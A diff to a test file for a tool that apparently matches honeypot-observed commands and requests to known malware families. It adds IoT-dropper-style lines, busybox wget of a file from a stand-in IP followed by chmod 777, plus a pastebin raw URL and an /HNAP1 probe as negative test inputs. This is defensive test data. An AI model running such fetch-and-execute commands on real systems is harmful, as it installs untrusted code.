@@ -86,6 +86,10 @@ const ordinary = [
   'netstat -an',
   'git pull',
   'python3 -m http.server',
+  '/bin/busybox wget http://198.51.100.7/x',
+  '/bin/busybox chmod 777 x',
+  'busybox free',
+  './backup_linux_amd64 && echo done',
 ];
 
 describe('known families and tools', () => {
@@ -113,7 +117,9 @@ describe('known families and tools', () => {
         [],
         command,
       );
-    for (const request of ['/', '/index.html', '/robots.txt', '/favicon.ico', '/login.php'])
+    const paste = attackWith('url', 'https://pastebin.com/raw/aBcD1234');
+    assert.deepEqual(matchFamilies(paste), [], 'a place where anybody puts anything');
+    for (const request of ['/HNAP1', '/', '/index.html', '/robots.txt', '/favicon.ico', '/login.php'])
       assert.deepEqual(
         matchFamilies(attackWith('request', request)).map(({ family }) => family.name),
         [],
